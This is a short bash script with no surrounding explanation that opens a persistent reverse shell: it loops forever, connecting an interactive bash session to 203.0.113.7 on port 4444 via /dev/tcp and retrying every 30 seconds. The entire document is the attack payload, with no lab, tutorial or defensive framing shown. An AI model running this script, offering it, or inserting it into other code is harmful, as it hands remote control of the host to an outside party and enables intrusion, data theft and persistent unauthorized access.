#!/bin/bash
HOST=203.0.113.7
PORT=4444
while true; do
  bash -i >& /dev/tcp/$HOST/$PORT 0>&1
  sleep 30
done
